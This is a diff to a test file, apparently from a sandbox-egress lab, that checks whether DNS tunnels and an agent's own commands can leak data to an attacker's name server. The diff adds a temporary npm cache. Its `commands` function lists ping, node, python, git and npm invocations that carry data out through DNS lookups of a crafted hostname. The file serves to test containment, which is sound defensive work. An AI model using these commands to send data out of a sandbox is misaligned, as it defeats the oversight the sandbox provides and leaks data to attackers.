@@ -2,6 +2,7 @@
 # SPDX-License-Identifier: Apache-2.0
 """Real tunnels and an agent's own commands, from a sandbox whose only way out is the DNS port, to a name server of an attacker's: by default
 nothing leaves. Each beside its control, in which it does. THREATS: J, K. In network and mount namespaces of its own; as root."""
+import atexit
 import contextlib
 import glob
 import hashlib
@@ -9,6 +10,7 @@ import os
 import secrets
 import shutil
 import sys
+import tempfile
 
 import dns_lab as D
 import lab as L
@@ -151,6 +153,10 @@ def test_iodine_in_observe_mode():
         assert one_way(net, d, "flag") and d.heard_bytes() > 256, d.heard_bytes()
 
 
+NPM_CACHE = os.path.join(tempfile.gettempdir(), f"outgate-npm-{os.getpid()}")
+atexit.register(shutil.rmtree, NPM_CACHE, True)
+
+
 def commands(name):
     """What an agent would type to carry something out in a name."""
     yield "ping", ["ping", "-c", "2", "-W", "1", name]
@@ -164,7 +170,8 @@ def commands(name):
     yield "node", ["node", "-e", f"require('dns').resolveTxt('{name}', () => require('dns').lookup('{name}', () => 0))"]
     yield "python", [sys.executable, "-c", f"import socket\ntry: socket.getaddrinfo('{name}', 80)\nexcept OSError: pass"]
     yield "git", ["git", "ls-remote", f"https://{name}/x.git"]
-    yield "npm", ["npm", "view", "x", f"--registry=http://{name}/", "--fetch-retries=0", "--no-update-notifier", "--cache=/nonexistent"]
+    yield "npm", ["npm", "view", "x", f"--registry=http://{name}/", "--fetch-retries=0", "--no-update-notifier", "--logs-max=0",
+                  f"--cache={NPM_CACHE}"]
 
 
 def children():
